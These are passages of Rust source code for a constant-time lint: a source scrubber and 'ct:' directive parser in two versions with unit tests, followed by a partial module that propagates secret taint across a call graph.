                } else {
                    i += 1;
                }
                continue;
            }
            match chars[i] {
                '/' if chars.get(i + 1) == Some(&'/') => {
                    comment = chars[i + 2..].iter().collect();
                    break;
                }
                '/' if chars.get(i + 1) == Some(&'*') => {
                    self.block_depth = 1;
                    code.push(' ');
                    i += 2;
                }
                '"' => {
                    code.push_str("\"\"");
                    match skip_string(&chars, i + 1) {
                        Some(end) => i = end,
                        None => {
                            self.open_str = StrTail::Plain;
                            i = chars.len();
                        }
                    }
                }
                '\'' => {
                    i = self.scrub_quote(&chars, i, &mut code);
                }
                c if c.is_alphanumeric() || c == '_' => {
                    if let Some(raw) = raw_string_end(&chars, i) {
                        code.push_str("\"\"");
                        match raw {
                            RawStr::Closed(end) => i = end,
                            RawStr::Open { hashes } => {
                                self.open_str = StrTail::Raw(hashes);
                                i = chars.len();
                            }
                        }
                    } else {
                        while i < chars.len() && (chars[i].is_alphanumeric() || chars[i] == '_') {
                            code.push(chars[i]);
                            i += 1;
                        }
                    }
                }
                c => {
                    code.push(c);
                    i += 1;
                }
            }
        }
        (code, comment)
    }

    /// Handles a `'`: char literal (blanked) or lifetime (dropped).
    fn scrub_quote(&mut self, chars: &[char], i: usize, code: &mut String) -> usize {
        let next = chars.get(i + 1);
        if next == Some(&'\\') {
            // Escaped char literal: scan to the closing quote.
            let mut j = i + 3;
            while j < chars.len() && chars[j] != '\'' {
                j += 1;
            }
            code.push_str("''");
            j + 1
        } else if chars.get(i + 2) == Some(&'\'') && next.is_some() {
            code.push_str("''");
            i + 3
        } else {
            // Lifetime: skip the quote and the following identifier.
            let mut j = i + 1;
            while j < chars.len() && (chars[j].is_alphanumeric() || chars[j] == '_') {
                j += 1;
            }
            j
        }
    }
}

/// Scans past a (single-line) string literal starting after the opening
/// quote; returns the index after the closing quote.
fn skip_string(chars: &[char], mut i: usize) -> Option<usize> {
    while i < chars.len() {
        match chars[i] {
            '\\' => i += 2,
            '"' => return Some(i + 1),
            _ => i += 1,
        }
    }
    None
}

/// Where a raw string literal ends.
enum RawStr {
    /// Closed on this line; the index just past the terminator.
    Closed(usize),
    /// Continues onto the next line; the terminator's hash count.
    Open { hashes: usize },
}

/// If the identifier starting at `i` opens a raw string (`r"…"`,
/// `r#"…"#`, `br"…"`), returns where it ends.
fn raw_string_end(chars: &[char], i: usize) -> Option<RawStr> {
    let mut j = i;
    if chars[j] == 'b' && chars.get(j + 1) == Some(&'r') {
        j += 1;
    }
    if chars[j] != 'r' {
        return None;
    }
    j += 1;
    let mut hashes = 0;
    while chars.get(j) == Some(&'#') {
        hashes += 1;
        j += 1;
    }
    if chars.get(j) != Some(&'"') {
        return None;
    }
    j += 1;
    while j < chars.len() {
        if chars[j] == '"'
            && chars[j + 1..].iter().take(hashes).filter(|&&c| c == '#').count() == hashes
        {
            return Some(RawStr::Closed(j + 1 + hashes));
        }
        j += 1;
    }
    Some(RawStr::Open { hashes })
}

/// An identifier (or keyword) token with its char-index span in the
/// scrubbed code line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Tok {
    /// Token text.
    pub text: String,
    /// Char index of the first character.
    pub start: usize,
    /// Char index one past the last character.
    pub end: usize,
}

/// Extracts identifier/keyword tokens from a scrubbed code line.
/// Numeric literals (anything starting with a digit, including suffixed
/// forms like `55u64` and `0x1FF`) are dropped.
pub fn idents(code: &str) -> Vec<Tok> {
    let chars: Vec<char> = code.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        if chars[i].is_alphanumeric() || chars[i] == '_' {
            let start = i;
            while i < chars.len() && (chars[i].is_alphanumeric() || chars[i] == '_') {
                i += 1;
            }
            if !chars[start].is_ascii_digit() {
                out.push(Tok { text: chars[start..i].iter().collect(), start, end: i });
            }
        } else {
            i += 1;
        }
    }
    out
}

/// A parsed `// ct:` directive.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Directive {
    /// `ct: secret(a, b)` — open (or extend) a secret region, seeding
    /// the taint set with the named identifiers.
    Secret(Vec<String>),
    /// `ct: end` — close the current secret region.
    End,
    /// `ct: allow(reason)` — suppress rule checks on this line (when
    /// trailing code) or the next code-bearing line (when standalone).
    Allow(String),
    /// `ct: public(a, b)` — declare projections public. On a struct
    /// definition the names are field names exempt from seed taint
    /// (field-sensitive seeding); inside a secret region they are
    /// dotted paths (`sk.logn`) whose reads do not count as tainted.
    Public(Vec<String>),
    /// A `ct:` comment that parses as none of the above; reported as an
    /// `annotation` violation so typos cannot silently disable checks.
    Bad(String),
}

/// Parses a line comment as a `ct:` directive. Comments not starting
/// with `ct:` (after whitespace) are not directives.
pub fn directive(comment: &str) -> Option<Directive> {
    let rest = comment.trim_start().strip_prefix("ct:")?.trim();
    if rest == "end" {
        return Some(Directive::End);
    }
    if let Some(inner) = parenthesised(rest, "secret") {
        let vars: Vec<String> =
            inner.split(',').map(|v| v.trim().to_string()).filter(|v| !v.is_empty()).collect();
        if vars.is_empty() || vars.iter().any(|v| !is_ident(v)) {
            return Some(Directive::Bad(format!("malformed secret(...) variable list: `{rest}`")));
        }
        return Some(Directive::Secret(vars));
    }
    if let Some(inner) = parenthesised(rest, "allow") {
        let reason = inner.trim();
        if reason.is_empty() {
            return Some(Directive::Bad("allow(...) requires a reason".to_string()));
        }
        return Some(Directive::Allow(reason.to_string()));
    }
    if let Some(inner) = parenthesised(rest, "public") {
        let names: Vec<String> =
            inner.split(',').map(|v| v.trim().to_string()).filter(|v| !v.is_empty()).collect();
        let is_path = |p: &str| !p.is_empty() && p.split('.').all(is_ident);
        if names.is_empty() || names.iter().any(|v| !is_path(v)) {
            return Some(Directive::Bad(format!("malformed public(...) name list: `{rest}`")));
        }
        return Some(Directive::Public(names));
    }
    Some(Directive::Bad(format!("unrecognised ct directive: `{rest}`")))
}

/// Extracts `inner` from `head(inner)` (trailing text after the closing
/// parenthesis is tolerated so prose may follow a directive).
fn parenthesised<'a>(rest: &'a str, head: &str) -> Option<&'a str> {
    let args = rest.strip_prefix(head)?.trim_start();
    let args = args.strip_prefix('(')?;
    let close = args.rfind(')')?;
    Some(&args[..close])
}

fn is_ident(s: &str) -> bool {
    let mut cs = s.chars();
    cs.next().map(|c| c.is_alphabetic() || c == '_').unwrap_or(false)
        && cs.all(|c| c.is_alphanumeric() || c == '_')
}

/// One logical statement: one or more physical source lines joined
/// until the expression is syntactically complete.
///
/// Rust statements routinely span lines (rustfmt breaks long
/// conditions before operators and long call argument lists inside the
/// parentheses), and a line-at-a-time lint silently misses, say, a
/// secret-guarded `if` whose condition sits on its own line. The
/// stitcher rejoins such statements so the rule checks see the whole
/// expression; see [`stitch`] for the joining heuristics.
#[derive(Debug, Clone, Default)]
pub struct Stmt {
    /// 1-based number of the first physical line.
    pub line: usize,
    /// Scrubbed code of all physical lines, joined with single spaces.
    pub code: String,
    /// Raw source of all physical lines, trimmed and joined with single
    /// spaces (used for violation snippets and fingerprints).
    pub raw: String,
    /// Directives found on this statement's physical lines, with their
    /// line numbers, in order.
    pub directives: Vec<(usize, Directive)>,
    /// Physical lines joined into this statement.
    pub span: usize,
}

/// Upper bound on physical lines joined into one statement; beyond it
/// the stitcher force-flushes so a scrub confusion (e.g. an unclosed
/// multi-line literal) cannot swallow a whole file into one statement.
const MAX_STITCH: usize = 24;

/// Splits source text into logical statements (plus standalone
/// directive records carried by empty-code [`Stmt`]s).
///
/// A physical line is joined with its successor when any of these hold:
///
/// * parenthesis/bracket depth is still open at the end of the line
///   (an argument list or index expression continues);
/// * the line ends with a binary/assignment operator, a `::`/`.` path
///   or method chain, or a statement-introducing keyword (`if`,
///   `while`, `match`, `for`, `in`, `else`, `return`) — the expression
///   cannot be complete;
/// * the next line *begins* with an operator or `.`/`?` chain — the
///   rustfmt style of breaking before `&&`, `+`, `.method()`.
///
/// Lines ending in `;`, `{` or `}` always terminate a statement (brace
/// depth is intentionally not tracked: a block opener is a boundary, so
/// `if cond {` and its body lines are separate statements, exactly like
/// the single-line lint saw them).
pub fn stitch(src: &str) -> Vec<Stmt> {
    let mut sc = Scrubber::new();
    let mut scrubbed: Vec<(usize, String, String, String)> = Vec::new();
    for (idx, raw) in src.lines().enumerate() {
        let (code, comment) = sc.scrub(raw);
        scrubbed.push((idx + 1, code, comment, raw.to_string()));
    }

    let mut out: Vec<Stmt> = Vec::new();
    let mut cur = Stmt::default();
    let mut depth = 0usize; // parens + square brackets across joined lines

    let flush = |cur: &mut Stmt, out: &mut Vec<Stmt>| {
        if cur.line != 0 {
            out.push(std::mem::take(cur));
        }
    };

    for i in 0..scrubbed.len() {
        let (line, code, comment, raw) = &scrubbed[i];
        let trimmed = code.trim();
        let directive = directive(comment);

        if trimmed.is_empty() && depth == 0 && cur.line == 0 {
            // Blank or comment-only line outside any statement: emit a
            // standalone record when it carries a directive.
            if let Some(d) = directive {
                out.push(Stmt {
                    line: *line,
                    code: String::new(),
                    raw: raw.trim().to_string(),
                    directives: vec![(*line, d)],
                    span: 1,
                });
            }
            continue;
        }

        // Append this physical line to the current statement.
        if cur.line == 0 {
            cur.line = *line;
        }
        if !cur.code.is_empty() && !trimmed.is_empty() {
            cur.code.push(' ');
        }
        cur.code.push_str(trimmed);
        if !cur.raw.is_empty() && !raw.trim().is_empty() {
            cur.raw.push(' ');
        }
        cur.raw.push_str(raw.trim());
        if let Some(d) = directive {
            cur.directives.push((*line, d));
        }
        cur.span += 1;
        for c in trimmed.chars() {
            match c {
                '(' | '[' => depth += 1,
                ')' | ']' => depth = depth.saturating_sub(1),
                _ => {}
            }
        }

        let next_code = scrubbed.get(i + 1).map(|(_, c, _, _)| c.trim()).unwrap_or("");
        let joins = depth > 0
            || (cur.span < MAX_STITCH
                && !ends_statement(trimmed)
                && (continues_after(trimmed) || continues_before(next_code)));
        if !joins || cur.span >= MAX_STITCH {
            depth = 0;
            flush(&mut cur, &mut out);
        }
    }
    flush(&mut cur, &mut out);
    out
}

/// Lines ending in `;`, `{` or `}` are complete statements regardless of
/// the operator heuristics.
fn ends_statement(code: &str) -> bool {
    matches!(code.chars().next_back(), Some(';' | '{' | '}'))
}

/// Whether a line's scrubbed code ends mid-expression: a trailing
/// binary/assignment operator, path separator, or an expression-opening
/// keyword.
fn continues_after(code: &str) -> bool {
    if matches!(
        code.chars().next_back(),
        Some('=' | '+' | '-' | '*' | '/' | '%' | '&' | '|' | '^' | '<' | '>' | '.' | ':' | '?')
    ) {
        return true;
    }
    let last_word = code.rsplit(|c: char| !(c.is_alphanumeric() || c == '_')).next().unwrap_or("");
    matches!(last_word, "if" | "while" | "match" | "for" | "in" | "else" | "return")
}

/// Whether the next line's scrubbed code begins mid-expression (the
/// rustfmt break-before-operator style: `&& cond`, `.method()`, `+ x`).
fn continues_before(code: &str) -> bool {
    matches!(
        code.chars().next(),
        Some('.' | '?' | '+' | '-' | '*' | '/' | '%' | '&' | '|' | '^' | '<' | '>' | '=' | ':')
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scrub1(s: &str) -> (String, String) {
        Scrubber::new().scrub(s)
    }

    #[test]
    fn strings_and_chars_blank() {
        let (code, _) = scrub1(r#"let x = "a / b % c"; let c = '%';"#);
        assert!(!code.contains('/'), "{code}");
        assert!(!code.contains('%'), "{code}");
    }

    #[test]
    fn lifetimes_do_not_tokenise() {
        let (code, _) = scrub1("fn f<'a>(x: &'a str) {}");
        let toks: Vec<String> = idents(&code).into_iter().map(|t| t.text).collect();
        assert!(!toks.contains(&"a".to_string()), "{toks:?}");
    }

    #[test]
    fn block_comments_nest_across_lines() {
        let mut sc = Scrubber::new();
        let (c1, _) = sc.scrub("let a = 1; /* open /* nested */");
        let (c2, _) = sc.scrub("still a comment */ let b = 2;");
        assert!(c1.contains("let a"));
        assert!(!c2.contains("still"));
        assert!(c2.contains("let b"));
    }

    #[test]
    fn multiline_string_contents_are_blanked() {
        let mut sc = Scrubber::new();
        let (c1, _) = sc.scrub("let src = \"\\");
        assert!(c1.contains("\"\""), "{c1}");
        let (c2, _) = sc.scrub("unsafe { secret[idx] } Instant::now()\\");
        assert_eq!(c2, "", "{c2}");
        let (c3, _) = sc.scrub("done\"; let x = 1;");
        assert!(!c3.contains("done"), "{c3}");
        assert!(c3.contains("let x = 1"), "{c3}");
    }

    #[test]
    fn multiline_raw_string_contents_are_blanked() {
        let mut sc = Scrubber::new();
        let (c1, _) = sc.scrub("let src = r#\"");
        assert!(c1.contains("\"\""), "{c1}");
        let (c2, _) = sc.scrub("if secret { leak(); } \" not the end");
        assert_eq!(c2, "", "{c2}");
        let (c3, _) = sc.scrub("\"#; let y = 2;");
        assert!(c3.contains("let y = 2"), "{c3}");
    }

    #[test]
    fn directives_parse() {
        assert_eq!(
            directive(" ct: secret(self, rhs)"),
            Some(Directive::Secret(vec!["self".into(), "rhs".into()]))
        );
        assert_eq!(directive(" ct: end"), Some(Directive::End));
        assert_eq!(
            directive(" ct: allow(reference lazy loop)"),
            Some(Directive::Allow("reference lazy loop".into()))
        );
        assert!(matches!(directive(" ct: secrt(x)"), Some(Directive::Bad(_))));
        assert!(matches!(directive(" ct: allow()"), Some(Directive::Bad(_))));
        assert_eq!(directive(" plain comment"), None);
        // Doc-comment text starts with '/' or '!' and is ignored.
        assert_eq!(directive("/ ct: secret(x)"), None);
    }

    #[test]
    fn numeric_literals_are_not_idents() {
        let toks: Vec<String> =
            idents("let x = 0x1FF + 55u64 + 2.0f64;").into_iter().map(|t| t.text).collect();
        assert_eq!(toks, vec!["let", "x"]);
    }
}
