//! Lexical preprocessing for the lint: comment/literal stripping,
//! identifier tokenisation, and `ct:` directive parsing.
//!
//! The lint works line by line on *scrubbed* source: string and char
//! literal contents are blanked (so operators and identifiers inside
//! them never reach the rule checks), comments are separated out (so
//! directives can be read from them), and lifetimes are removed (so
//! `'a` does not tokenise as the identifier `a`). Block comments nest,
//! as they do in Rust, and their state persists across lines.

/// Strips comments and literals from Rust source, one line at a time.
#[derive(Debug, Default)]
pub struct Scrubber {
    /// Nesting depth of `/* */` comments carried across lines.
    block_depth: usize,
}

impl Scrubber {
    /// A scrubber at the start of a file.
    pub fn new() -> Scrubber {
        Scrubber::default()
    }

    /// Splits one source line into (code, line-comment text).
    ///
    /// The code part has string/char contents blanked and block-comment
    /// spans removed; the comment part is everything after `//` (empty
    /// when there is none). Doc comments (`///`, `//!`) yield comment
    /// text starting with `/` or `!`, which [`directive`] ignores, so
    /// directive examples inside documentation are inert.
    pub fn scrub(&mut self, raw: &str) -> (String, String) {
        let chars: Vec<char> = raw.chars().collect();
        let mut code = String::new();
        let mut comment = String::new();
        let mut i = 0;
        while i < chars.len() {
            if self.block_depth > 0 {
                if chars[i] == '*' && chars.get(i + 1) == Some(&'/') {
                    self.block_depth -= 1;
                    i += 2;
                } else if chars[i] == '/' && chars.get(i + 1) == Some(&'*') {
                    self.block_depth += 1;
                    i += 2;
                } else {
                    i += 1;
                }
                continue;
            }
            match chars[i] {
                '/' if chars.get(i + 1) == Some(&'/') => {
                    comment = chars[i + 2..].iter().collect();
                    break;
                }
                '/' if chars.get(i + 1) == Some(&'*') => {
                    self.block_depth = 1;
                    code.push(' ');
                    i += 2;
                }
                '"' => {
                    code.push_str("\"\"");
                    i = skip_string(&chars, i + 1);
                }
                '\'' => {
                    i = self.scrub_quote(&chars, i, &mut code);
                }
                c if c.is_alphanumeric() || c == '_' => {
                    if let Some(end) = raw_string_end(&chars, i) {
                        code.push_str("\"\"");
                        i = end;
                    } else {
                        while i < chars.len() && (chars[i].is_alphanumeric() || chars[i] == '_') {
                            code.push(chars[i]);
                            i += 1;
                        }
                    }
                }
                c => {
                    code.push(c);
                    i += 1;
                }
            }
        }
        (code, comment)
    }

    /// Handles a `'`: char literal (blanked) or lifetime (dropped).
    fn scrub_quote(&mut self, chars: &[char], i: usize, code: &mut String) -> usize {
        let next = chars.get(i + 1);
        if next == Some(&'\\') {
            // Escaped char literal: scan to the closing quote.
            let mut j = i + 3;
            while j < chars.len() && chars[j] != '\'' {
                j += 1;
            }
            code.push_str("''");
            j + 1
        } else if chars.get(i + 2) == Some(&'\'') && next.is_some() {
            code.push_str("''");
            i + 3
        } else {
            // Lifetime: skip the quote and the following identifier.
            let mut j = i + 1;
            while j < chars.len() && (chars[j].is_alphanumeric() || chars[j] == '_') {
                j += 1;
            }
            j
        }
    }
}

/// Scans past a (single-line) string literal starting after the opening
/// quote; returns the index after the closing quote.
fn skip_string(chars: &[char], mut i: usize) -> usize {
    while i < chars.len() {
        match chars[i] {
            '\\' => i += 2,
            '"' => return i + 1,
            _ => i += 1,
        }
    }
    i
}

/// If the identifier starting at `i` opens a raw string (`r"…"`,
/// `r#"…"#`, `br"…"`), returns the index just past it.
fn raw_string_end(chars: &[char], i: usize) -> Option<usize> {
    let mut j = i;
    if chars[j] == 'b' && chars.get(j + 1) == Some(&'r') {
        j += 1;
    }
    if chars[j] != 'r' {
        return None;
    }
    j += 1;
    let mut hashes = 0;
    while chars.get(j) == Some(&'#') {
        hashes += 1;
        j += 1;
    }
    if chars.get(j) != Some(&'"') {
        return None;
    }
    j += 1;
    while j < chars.len() {
        if chars[j] == '"'
            && chars[j + 1..].iter().take(hashes).filter(|&&c| c == '#').count() == hashes
        {
            return Some(j + 1 + hashes);
        }
        j += 1;
    }
    Some(j)
}

/// An identifier (or keyword) token with its char-index span in the
/// scrubbed code line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Tok {
    /// Token text.
    pub text: String,
    /// Char index of the first character.
    pub start: usize,
    /// Char index one past the last character.
    pub end: usize,
}

/// Extracts identifier/keyword tokens from a scrubbed code line.
/// Numeric literals (anything starting with a digit, including suffixed
/// forms like `55u64` and `0x1FF`) are dropped.
pub fn idents(code: &str) -> Vec<Tok> {
    let chars: Vec<char> = code.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        if chars[i].is_alphanumeric() || chars[i] == '_' {
            let start = i;
            while i < chars.len() && (chars[i].is_alphanumeric() || chars[i] == '_') {
                i += 1;
            }
            if !chars[start].is_ascii_digit() {
                out.push(Tok { text: chars[start..i].iter().collect(), start, end: i });
            }
        } else {
            i += 1;
        }
    }
    out
}

/// A parsed `// ct:` directive.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Directive {
    /// `ct: secret(a, b)` — open (or extend) a secret region, seeding
    /// the taint set with the named identifiers.
    Secret(Vec<String>),
    /// `ct: end` — close the current secret region.
    End,
    /// `ct: allow(reason)` — suppress rule checks on this line (when
    /// trailing code) or the next code-bearing line (when standalone).
    Allow(String),
    /// A `ct:` comment that parses as none of the above; reported as an
    /// `annotation` violation so typos cannot silently disable checks.
    Bad(String),
}

/// Parses a line comment as a `ct:` directive. Comments not starting
/// with `ct:` (after whitespace) are not directives.
pub fn directive(comment: &str) -> Option<Directive> {
    let rest = comment.trim_start().strip_prefix("ct:")?.trim();
    if rest == "end" {
        return Some(Directive::End);
    }
    if let Some(inner) = parenthesised(rest, "secret") {
        let vars: Vec<String> =
            inner.split(',').map(|v| v.trim().to_string()).filter(|v| !v.is_empty()).collect();
        if vars.is_empty() || vars.iter().any(|v| !is_ident(v)) {
            return Some(Directive::Bad(format!("malformed secret(...) variable list: `{rest}`")));
        }
        return Some(Directive::Secret(vars));
    }
    if let Some(inner) = parenthesised(rest, "allow") {
        let reason = inner.trim();
        if reason.is_empty() {
            return Some(Directive::Bad("allow(...) requires a reason".to_string()));
        }
        return Some(Directive::Allow(reason.to_string()));
    }
    Some(Directive::Bad(format!("unrecognised ct directive: `{rest}`")))
}

/// Extracts `inner` from `head(inner)` (trailing text after the closing
/// parenthesis is tolerated so prose may follow a directive).
fn parenthesised<'a>(rest: &'a str, head: &str) -> Option<&'a str> {
    let args = rest.strip_prefix(head)?.trim_start();
    let args = args.strip_prefix('(')?;
    let close = args.rfind(')')?;
    Some(&args[..close])
}

fn is_ident(s: &str) -> bool {
    let mut cs = s.chars();
    cs.next().map(|c| c.is_alphabetic() || c == '_').unwrap_or(false)
        && cs.all(|c| c.is_alphanumeric() || c == '_')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scrub1(s: &str) -> (String, String) {
        Scrubber::new().scrub(s)
    }

    #[test]
    fn strings_and_chars_blank() {
        let (code, _) = scrub1(r#"let x = "a / b % c"; let c = '%';"#);
        assert!(!code.contains('/'), "{code}");
        assert!(!code.contains('%'), "{code}");
    }

    #[test]
    fn lifetimes_do_not_tokenise() {
        let (code, _) = scrub1("fn f<'a>(x: &'a str) {}");
        let toks: Vec<String> = idents(&code).into_iter().map(|t| t.text).collect();
        assert!(!toks.contains(&"a".to_string()), "{toks:?}");
    }

    #[test]
    fn block_comments_nest_across_lines() {
        let mut sc = Scrubber::new();
        let (c1, _) = sc.scrub("let a = 1; /* open /* nested */");
        let (c2, _) = sc.scrub("still a comment */ let b = 2;");
        assert!(c1.contains("let a"));
        assert!(!c2.contains("still"));
        assert!(c2.contains("let b"));
    }

    #[test]
    fn directives_parse() {
        assert_eq!(
            directive(" ct: secret(self, rhs)"),
            Some(Directive::Secret(vec!["self".into(), "rhs".into()]))
        );
        assert_eq!(directive(" ct: end"), Some(Directive::End));
        assert_eq!(
            directive(" ct: allow(reference lazy loop)"),
            Some(Directive::Allow("reference lazy loop".into()))
        );
        assert!(matches!(directive(" ct: secrt(x)"), Some(Directive::Bad(_))));
        assert!(matches!(directive(" ct: allow()"), Some(Directive::Bad(_))));
        assert_eq!(directive(" plain comment"), None);
        // Doc-comment text starts with '/' or '!' and is ignored.
        assert_eq!(directive("/ ct: secret(x)"), None);
    }

    #[test]
    fn numeric_literals_are_not_idents() {
        let toks: Vec<String> =
            idents("let x = 0x1FF + 55u64 + 2.0f64;").into_iter().map(|t| t.text).collect();
        assert_eq!(toks, vec!["let", "x"]);
    }
}
