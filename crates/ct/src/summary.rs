//! Per-function taint summaries and interprocedural propagation.
//!
//! Taint enters the system three ways:
//!
//! * **Type seeds** — a parameter or return type mentioning one of
//!   [`crate::rules::SECRET_SEED_TYPES`] (`Secret<T>`, the private-key
//!   types, the LDL tree the sampler walks) marks that parameter or the
//!   return value secret, no annotation needed. Seeding is
//!   **field-sensitive** for structs that opt in with a
//!   `// ct: public(field, …)` annotation on their definition (see
//!   [`crate::fields`]): the parameter root still taints, but the
//!   declared public projections (`sk.logn`, and the same-named
//!   accessors) are recorded as exclusions, so reading a public field
//!   of a secret struct no longer drags whole call chains into the
//!   taint set. Unannotated structs keep whole-value seeding.
//! * **Region annotations** — inside a `// ct: secret(a, b)` region the
//!   named identifiers are secret; when they coincide with parameter
//!   names the parameter is marked in the summary, so *callers* of an
//!   annotated function learn about its appetite for secrets.
//! * **Propagation** — a tainted identifier in a call's argument list
//!   taints the positionally matching callee parameter (all of them on
//!   arity mismatch); a tainted method receiver taints the callee's
//!   `self`; a free or `Type::`-qualified call to a `returns_secret`
//!   function taints the binding it is assigned to; a `return` (or
//!   trailing expression) mentioning local taint sets `returns_secret`
//!   on the enclosing function. Calls cross the graph only when
//!   resolution is unambiguous — see [`calls_in`] for the policy.
//!
//! Summaries are computed to a fixpoint, then a reporting pass replays
//! each tainted function's body with the *same* rule checks the region
//! lint uses (`secret-branch`, `secret-index`, `secret-divmod`,
//! `secret-call`) — statements inside explicit `ct: secret` regions are
//! skipped there, because [`crate::lint::lint_source`] already checks
//! them and double-reporting would double the baseline.

use crate::graph::CallGraph;
use crate::lint::{self, Violation};
use crate::rules::{CallAllowlist, SECRET_SEED_TYPES};
use crate::scan::{idents, Directive, Tok};
use std::collections::BTreeSet;

/// Taint summary of one function (parallel to [`CallGraph::fns`]).
#[derive(Debug, Clone, Default)]
pub struct TaintSummary {
    /// Names of parameters considered secret-bearing.
    pub tainted_params: BTreeSet<String>,
    /// Dotted projections of tainted parameters that are declared
    /// public (`"sk.logn"`) — excluded when replaying the body.
    pub public_paths: BTreeSet<String>,
    /// Whether the return value carries secrets.
    pub returns_secret: bool,
    /// Why the function first became tainted (seed type, region, or the
    /// qualified name of the caller/callee that propagated into it).
    pub cause: String,
}

impl TaintSummary {
    /// Whether the function handles secrets at all.
    pub fn is_tainted(&self) -> bool {
        !self.tainted_params.is_empty() || self.returns_secret
    }
}

/// Summaries for a whole call graph.
#[derive(Debug)]
pub struct TaintMap {
    /// One summary per [`CallGraph::fns`] entry.
    pub summaries: Vec<TaintSummary>,
    /// Fixpoint iterations used (diagnostic; bounded by
    /// [`TaintMap::MAX_ROUNDS`]).
    pub rounds: usize,
}

/// Whether a scrubbed type text mentions a seed type as a whole token.
fn mentions_seed(ty: &str) -> bool {
    idents(ty).iter().any(|t| SECRET_SEED_TYPES.contains(&t.text.as_str()))
}

impl TaintMap {
    /// Fixpoint iteration bound; the call graph is shallow (longest
    /// realistic chain: sign → ffsampling → sampler → fpr ≈ 6 edges),
    /// so hitting this indicates a cycle that has already saturated.
    pub const MAX_ROUNDS: usize = 32;

    /// Computes summaries for `g` to a fixpoint.
    pub fn compute(g: &CallGraph) -> TaintMap {
        let mut sums: Vec<TaintSummary> = vec![TaintSummary::default(); g.fns.len()];

        // -- seeding ----------------------------------------------------
        for (i, f) in g.fns.iter().enumerate() {
            for p in &f.params {
                if mentions_seed(&p.ty) {
                    sums[i].tainted_params.insert(p.name.clone());
                    if sums[i].cause.is_empty() {
                        sums[i].cause = format!("param `{}: {}` is a seed type", p.name, p.ty);
                    }
                }
                // Field-sensitive exclusions: a struct with a
                // `ct: public(...)` annotation donates its public
                // projections for every parameter of that type.
                if let Some(info) = g.structs.sensitive_in_type(&p.ty) {
                    for field in &info.public_fields {
                        sums[i].public_paths.insert(format!("{}.{field}", p.name));
                    }
                }
            }
            if mentions_seed(&f.ret) {
                sums[i].returns_secret = true;
                if sums[i].cause.is_empty() {
                    sums[i].cause = format!("returns seed type `{}`", f.ret);
                }
            }
            // Region-declared secrets that name parameters.
            if f.has_region {
                let param_names: BTreeSet<&str> =
                    f.params.iter().map(|p| p.name.as_str()).collect();
                for si in body_stmt_indices(g, i) {
                    let stmt = &g.files[g.body_stmts[i].0].stmts[si];
                    for (_, d) in &stmt.directives {
                        if let Directive::Secret(vars) = d {
                            for v in vars {
                                if param_names.contains(v.as_str())
                                    && sums[i].tainted_params.insert(v.clone())
                                    && sums[i].cause.is_empty()
                                {
                                    sums[i].cause =
                                        format!("`ct: secret({v})` region names a parameter");
                                }
                            }
                        }
                    }
                }
            }
        }

        // -- fixpoint ---------------------------------------------------
        let mut rounds = 0;
        for _ in 0..Self::MAX_ROUNDS {
            rounds += 1;
            let mut changed = false;
            for i in 0..g.fns.len() {
                if g.fns[i].is_test {
                    continue;
                }
                changed |= propagate_one(g, i, &mut sums);
            }
            if !changed {
                break;
            }
        }
        TaintMap { summaries: sums, rounds }
    }

    /// Qualified names of tainted non-test functions that have no
    /// `ct: secret` region of their own — the functions the annotation
    /// discipline alone would have missed.
    pub fn tainted_outside_regions<'g>(&self, g: &'g CallGraph) -> Vec<&'g str> {
        g.fns
            .iter()
            .enumerate()
            .filter(|(i, f)| !f.is_test && !f.has_region && self.summaries[*i].is_tainted())
            .map(|(_, f)| f.qual.as_str())
            .collect()
    }
}

/// Indices into the owning file's statement list for fn `i`'s body.
fn body_stmt_indices(g: &CallGraph, i: usize) -> Vec<usize> {
    g.body_stmts[i].1.clone()
}

/// One propagation round over fn `i`'s body. Returns whether any
/// summary (its own or a callee's) changed.
fn propagate_one(g: &CallGraph, i: usize, sums: &mut [TaintSummary]) -> bool {
    if !sums[i].is_tainted() && !g.fns[i].has_region {
        return false;
    }
    let mut changed = false;
    let mut local = lint::Taint::new();
    for p in &sums[i].tainted_params {
        local.seed(p);
    }
    for p in &sums[i].public_paths {
        local.seed_public(p);
    }
    let (file_idx, stmt_idxs) = (g.body_stmts[i].0, g.body_stmts[i].1.clone());
    // The function's trailing expression is the last statement that is
    // not a bare closing brace (the `}` that ends the body is itself a
    // statement).
    let last_expr =
        stmt_idxs.iter().rposition(|&si| g.files[file_idx].stmts[si].code.trim() != "}");

    for (k, si) in stmt_idxs.iter().enumerate() {
        let stmt = &g.files[file_idx].stmts[*si];
        let code = stmt.code.trim();
        for (_, d) in &stmt.directives {
            match d {
                Directive::Secret(vars) => {
                    for v in vars {
                        local.seed(v);
                    }
                }
                Directive::Public(paths) => {
                    for p in paths.iter().filter(|p| p.contains('.')) {
                        local.seed_public(p);
                    }
                }
                _ => {}
            }
        }
        if code.is_empty() || lint::is_attribute(code) {
            continue;
        }
        let toks = idents(code);
        let chars: Vec<char> = code.chars().collect();

        let sites = calls_in(stmt, g);

        // Callee-return taint: a binding whose right side calls a
        // returns_secret function taints its left side. Method-syntax
        // sites are excluded — their real flows (`let c = sk.coeff(0)`)
        // already taint the binding because the receiver is mentioned
        // on the right-hand side, and a bare-name method binding would
        // otherwise poison every `.len()`-shaped call in the tree.
        if let Some(eq) = lint::binding_eq(&chars) {
            let rhs_secret_call = sites
                .iter()
                .filter(|s| s.tok_start > eq && s.kind != CallKind::Method)
                .any(|s| s.cands.iter().any(|&c| sums[c].returns_secret));
            if rhs_secret_call {
                for t in &toks {
                    if t.start < eq
                        && !lint::is_keyword(&t.text)
                        && !t.text.starts_with(char::is_uppercase)
                        && t.text != "_"
                    {
                        local.seed(&t.text);
                    }
                }
            }
        }

        // Intra-statement flow-sensitive propagation (gen/kill/join).
        local.observe(code, &toks);

        // Call-argument taint: a tainted identifier inside a call's
        // argument list (matched to the callee parameter by position
        // when arities line up, all parameters otherwise) or a tainted
        // method-call receiver taints the corresponding callee params.
        for site in &sites {
            for &c in &site.cands {
                if g.fns[c].is_test {
                    continue;
                }
                let hit = tainted_callee_params(&chars, &toks, site.tok_start, &local, &g.fns[c]);
                for p in hit {
                    if sums[c].tainted_params.insert(p) {
                        changed = true;
